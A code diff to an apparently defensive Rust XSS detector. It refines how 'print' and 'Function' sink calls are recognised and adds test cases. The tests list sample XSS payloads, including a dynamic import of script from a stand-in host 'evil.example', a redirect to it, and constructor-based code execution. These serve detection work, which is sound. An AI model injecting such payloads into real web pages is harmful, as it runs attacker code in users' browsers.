@@ -12,6 +12,9 @@
 
 use super::Detection;
 
+/// (`print` counts called with nothing, as XSS proofs call it, or after an operator that
+/// broke out of a string (`"-print(1)-"`), not `print(x)` as Python code in any text does; `function` only as the constructor invoked at once,
+/// `Function('code')()`.)
 const SINKS: &[&[u8]] = &[
     b"alert",
     b"confirm",
@@ -74,6 +77,25 @@ fn scripted_arguments(s: &[u8], at: usize) -> bool {
     }
 }
 
+/// Whether the argument list opening at `s[at] == b'('` is followed at once by another call:
+/// `Function('code')()` runs the code; `function (x) {..}` only declares.
+fn invoked_at_once(s: &[u8], at: usize) -> bool {
+    let mut depth = 0usize;
+    for (k, &b) in s[at..].iter().enumerate().take(4096) {
+        match b {
+            b'(' => depth += 1,
+            b')' => {
+                depth -= 1;
+                if depth == 0 {
+                    return s.get(skip_space(s, at + k + 1)) == Some(&b'(');
+                }
+            }
+            _ => {}
+        }
+    }
+    false
+}
+
 /// Finds a sink call in `input` (the `decoded` form).
 pub fn detect(input: &[u8]) -> Option<Detection> {
     let lower = input.to_ascii_lowercase();
@@ -93,6 +115,16 @@ pub fn detect(input: &[u8]) -> Option<Detection> {
         if SINKS.contains(&word) {
             // `alert(1)`, `alert`1``, `(alert)(1)`, `alert.call(..)`, `.find(alert)`.
             let called = match s.get(next) {
+                Some(b'(') if word == b"function" => invoked_at_once(s, next),
+                Some(b'(') if word == b"print" => {
+                    let after_operator = s[..at]
+                        .iter()
+                        .rev()
+                        .find(|b| !b.is_ascii_whitespace())
+                        .is_some_and(|b| b"-+*/;,=(&|?:".contains(b));
+                    s.get(skip_space(s, next + 1)) == Some(&b')')
+                        || after_operator && scripted_arguments(s, next)
+                }
                 Some(b'(') => scripted_arguments(s, next),
                 Some(b'`') => true,
                 Some(b')') => {
@@ -198,8 +230,10 @@ mod tests {
                 "location='//evil.example'",
                 "a.innerHTML='<img>'",
                 "[].constructor.constructor('alert(1)')()",
-                "print()",
                 "import('//evil.example/x.js')",
+                "print()",
+                "(print)(1)",
+                "\"-print(1)-\"",
                 "self['alert'](1)",
             ],
         );
@@ -221,6 +255,10 @@ mod tests {
                 "import data from CSV",
                 "alert me when it ships",
                 "document.pdf is attached",
+                "an output function (`out) can be passed",
+                "print(script_from_examples(text))",
+                "then print('hello') twice",
+                "function (x) { return x; }",
             ],
         );
     }
